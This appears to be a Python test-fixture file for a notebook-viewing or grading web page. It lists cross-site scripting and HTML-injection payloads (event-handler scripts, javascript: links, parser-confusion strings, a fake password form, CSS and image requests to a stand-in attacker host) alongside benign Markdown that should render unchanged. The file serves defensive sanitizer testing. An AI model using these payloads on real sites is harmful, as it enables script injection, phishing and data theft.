"""Attacks on a page that shows a student's notebook, and honest text and outputs that only look a little like them.

What runs calls ``hit``, which a page that is watched has; what fetches asks EVIL, or the page's own address.
"""

EVIL = "http://127.0.0.1:9"
_HIT = "window.hit&&hit('{}')"
_QUOTED = "window.hit&&hit(`{}`)"
_GRADER = "/formgrader?path=submitted/mallory/demo"

_TEXT = [
    "<script>{hit}</script>An honest looking answer.",
    '<img src=x onerror="{hit}">',
    '<svg onload="{hit}"><circle r=5></svg>',
    '<svg><animate onbegin="{hit}" attributeName=x dur=1s></svg>',
    '<svg><a xlink:href="javascript:{hit}"><text y=20>see here</text></a></svg>',
    "[see here](javascript:{hit}) and [here](files/javascript:{hit}) and [here](JaVa&#9;Script:{hit})",
    '<a href="data:text/html,<script>{hit}</script>">see here</a> <a href=" &#1;javascript:{hit}">see here</a>',
    '<iframe srcdoc="<script>parent.{hit}</script>"></iframe><iframe src="javascript:parent.{hit}"></iframe>',
    '<meta http-equiv=refresh content="0;url={evil}/meta"><base href="{evil}/">',
    '<form action="{evil}/login"><input name=password><button>Log in</button></form><textarea>mine</textarea>',
    '<details open ontoggle="{hit}"><summary onclick="{hit}">see here</summary></details>',
    '```mermaid\n<img src=x onerror="{hit}">\n```',
    '![x]({grader}) <img src="{grader}"> ![y]({evil}/image.png) <img srcset="{evil}/set.png 1x">',
    "<style>body {{ background: url({evil}/style) }} input {{ display: none }} @import url({evil}/import);</style>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url({evil}/overlay)">Session lost</div>',
    '# why\n\n<p id="why">14</p><input id="why" name="why"><h1 id="statusmessage">x</h1>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{hit}"></style></mglyph></table></mtext></math>',
    '<svg></p><style><a id="</style><img src=1 onerror={hit}>"></style></svg>',
    '<!--><img src=x onerror="{hit}">--> <![CDATA[<img src=x onerror="{hit}">]]> <?x <img src=x onerror="{hit}">?>',
    '<object data="{evil}/o"></object><embed src="{evil}/e"><link rel=stylesheet href="{evil}/c.css">'
    '<video poster="{evil}/p" onloadstart="{hit}"><source src="{evil}/v" onerror="{hit}"></video>',
    '<noscript><p title="</noscript><img src=x onerror={hit}>"></noscript>'
    "<template><img src=x onerror={hit}></template>",
    "$\\require{{html}}\\href{{javascript:{hit}}}{{see here}}$ $\\style{{background:url({evil}/tex)}}{{x}}$",
    '</div></div></div></div><div class="modal in" data-toggle="modal" data-target="<img src=x onerror={hit}>">x</div>',
    '<a class="tabbable" data-link="x" href="{grader}">see here</a> [here](..%2f..%2f..%2fsubmitted/mallory/page.html)',
]


def texts(kind: str) -> list[str]:
    """Attacks in Markdown or HTML; each says where it is from."""
    return [
        text.format(hit=_HIT.format(f"{kind}-{number}"), evil=EVIL, grader=_GRADER) for number, text in enumerate(_TEXT)
    ]


SVG = [
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {more}</svg>'
    for more in (
        f'onload="{_HIT.format("svg-1")}"><rect width="9" height="9"/>',
        f'><script>{_HIT.format("svg-2")}</script><rect width="9" height="9"/>',
        f'><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{_HIT.format("svg-3")}"/>'
        "</foreignObject>",
        f'><image xlink:href="{EVIL}/svg"/><use href="{EVIL}/use#a"/><style>@import url({EVIL}/css);</style>',
        f'><a href="javascript:{_HIT.format("svg-5")}"><text y="9">see here</text></a>',
        '><set attributeName="onmouseover" to="alert(1)"/><animate attributeName="href" values="javascript:alert(1)"/>',
    )
]

# Code whose outputs attack: `text` holds the HTML of one of `texts`.
CODE = [
    "from IPython.display import display\ndisplay({{'text/html': {html!r}, 'text/plain': 'x'}}, raw=True)",
    "display({{'text/markdown': {html!r}, 'text/plain': 'x'}}, raw=True)",
    "display({{'text/latex': {html!r}, 'text/plain': 'x'}}, raw=True)",
]
OTHER_CODE = [
    f"display({{'application/javascript': \"{_QUOTED.format('javascript')}\"}}, raw=True)",
    f"display({{'text/vnd.mermaid': '<img src=x onerror=\"{_QUOTED.format('mermaid')}\">'}}, raw=True)",
    f"display({{'text/html': '<b>x</b>'}}, raw=True, metadata={{'text/html': {{'isolated': True}}, 'width': '1 onerror="
    f"{_QUOTED.format('width')}'}})",
    "import base64\npng = base64.b64encode(b'\\x89PNG\\r\\n').decode()\n"
    "display({'image/png': png}, raw=True, metadata={'image/png': {'width': '1 "
    f"onerror={_QUOTED.format('png')} x='}}}})\n"
    f"display({{'image/png': png}}, raw=True, metadata={{'filenames': {{'image/png': '{EVIL}/filename'}}}})\n"
    f"display({{'image/png': 'x\" onerror=\"{_QUOTED.format('data')}'}}, raw=True)",
    "display({'application/vnd.jupyter.widget-view+json': {'version_major': 2}}, raw=True)",
    "display({'text/markdown': '![x](attachment:none.png)'}, raw=True)",
    f"print('\\x1b[38m<img src=x onerror=\"{_QUOTED.format('stream')}\">\\x1b[48;5m \\x1b]8;;javascript:x\\x07x')",
    f"raise ValueError('\\x1b[38m<script>{_QUOTED.format('error')}</script>\\x1b]0;OWNED\\x07')",
    f"get_ipython().execution_count = '<script>{_QUOTED.format('count')}</script>'",
]

# As they are, these are shown as they are, without a word.
HONEST = [
    "a < b and c > d, R&D; `x<y` $x<y$ $$a<b \\\\ c$$",
    "# Why\n\n- [x] done\n- **b**\n\n| a | b |\n|:-|-:|\n| 1<2 | `<b>` |\n",
    "```html\n<script>alert(1)</script>\n```\n\n    <indented onclick=x>\n",
    "```mermaid\ngraph TD; A-->B\n```",
    'See https://x.org/?a=1&b=2 and [this](https://y.org "t") <https://z.org>, mail <a@b.org>',
    'Hi<br>there <b>x</b> <sub>2</sub><span style="color: red">r</span>',
    "<center>\n\n## T\n\n</center>",
    "\\begin{align}\na &< b\n\\end{align}",
    "1. x\n   ```python\n   if a<b: pass\n   ```\n2. y, 5 < 6 <7> <- I <3 this",
    "x[^1] and ~~y~~ &lt; &copy; é \\\\(x\\\\)",
    '![f](fig.png) <img src="fig.png" width="200">',
    "<details><summary>more</summary>text</details>",
    "text\r\nof another system",
]
